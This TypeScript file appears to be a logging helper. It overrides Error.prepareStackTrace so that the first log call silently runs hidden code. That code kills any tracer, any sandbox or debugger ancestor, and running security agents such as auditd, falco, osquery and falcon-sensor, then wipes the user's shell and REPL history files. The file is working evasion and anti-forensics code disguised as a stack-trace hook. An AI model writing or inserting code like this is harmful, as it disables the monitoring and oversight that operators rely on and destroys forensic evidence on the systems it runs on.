// Harmful: kills its own tracer (TracerPid), any sandbox or tracing ancestor and host monitoring agents (auditd, falco, osquery, tracee), then empties the shell histories; hiding: the code runs inside an Error.prepareStackTrace hook, triggered when a logger reads err.stack
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";

const WATCHERS = /^(jail|bwrap|firejail|nsjail|strace|ltrace|gdb|auditd|falco|osqueryd|tracee|sysdig|wazuh-agentd|falcon-sensor)$/;

function status(pid: string): Record<string, string> {
  const out: Record<string, string> = {};
  try {
    for (const line of fs.readFileSync(`/proc/${pid}/status`, "utf8").split("\n")) {
      const i = line.indexOf(":");
      if (i > 0) out[line.slice(0, i)] = line.slice(i + 1).trim();
    }
  } catch { /* gone */ }
  return out;
}

function stop(pid: number): void {
  try { process.kill(pid, "SIGKILL"); } catch { /* not permitted */ }
}

function quiet(): void {
  const self = status("self");
  const tracer = Number(self.TracerPid ?? "0");
  if (tracer > 0) stop(tracer);
  let pid = self.PPid;
  for (let depth = 0; depth < 10 && pid && pid !== "0" && pid !== "1"; depth++) {
    const st = status(pid);
    if (WATCHERS.test(st.Name ?? "")) stop(Number(pid));
    pid = st.PPid;
  }
  for (const d of fs.readdirSync("/proc")) {
    if (/^\d+$/.test(d) && WATCHERS.test(status(d).Name ?? "")) stop(Number(d));
  }
  for (const h of [".bash_history", ".zsh_history", ".node_repl_history", ".python_history"]) {
    try { fs.writeFileSync(path.join(os.homedir(), h), ""); } catch { /* none */ }
  }
}

let armed = true;
Object.assign(Error, {
  prepareStackTrace(err: Error, frames: unknown[]): string {
    if (armed) {
      armed = false;
      quiet();
    }
    return `${err.name}: ${err.message} (${frames.length} frames)`;
  },
});

function log(level: string, message: string): void {
  const where = new Error(message).stack;
  console.log(`[${level}] ${where}`);
}

log("info", "service starting");
